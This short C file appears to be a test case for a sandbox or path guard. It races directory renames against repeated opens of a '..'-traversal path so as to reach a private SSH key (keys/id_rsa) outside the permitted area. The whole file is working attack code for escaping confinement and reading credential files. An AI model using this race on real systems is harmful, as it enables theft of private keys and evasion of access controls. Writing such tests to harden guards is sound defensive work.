/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Directories of the agent's, through which a path leads to the key by `..`, are moved deeper and back without a pause; an ancestor of the
 * key is, as far as the guard lets it be.
 */
#define ATTACK "race-ancestor"
#include "race.h"

static char *high, *deep, *area, *moved, *paths[2];

static void change(void)
{
	if (rename(high, deep) == 0)
		rename(deep, high);
	if (rename(area, moved) == 0)
		rename(moved, area);
}

static int reach(void)
{
	static int turn;

	turn = !turn;
	return open(paths[turn], O_RDONLY | O_CLOEXEC);
}

int main(int count, char **argument)
{
	(void)count;
	area = argument[1];
	high = text("%s/high", argument[2]);
	deep = text("%s/below/below/deep", argument[2]);
	moved = text("%s/moved", argument[2]);
	prepare("mkdir", mkdir(text("%s/below", argument[2]), 0700));
	prepare("mkdir", mkdir(text("%s/below/below", argument[2]), 0700));
	prepare("mkdir", mkdir(high, 0700));
	prepare("mkdir", mkdir(text("%s/inside", high), 0700));
	paths[0] = text("%s/inside/../../../../%s/keys/id_rsa", high, strstr(argument[1], "/home/dev/") ? argument[1] + 10 : "");
	paths[1] = text("%s/keys/id_rsa", area);
	race(argument[2], change, reach);
}
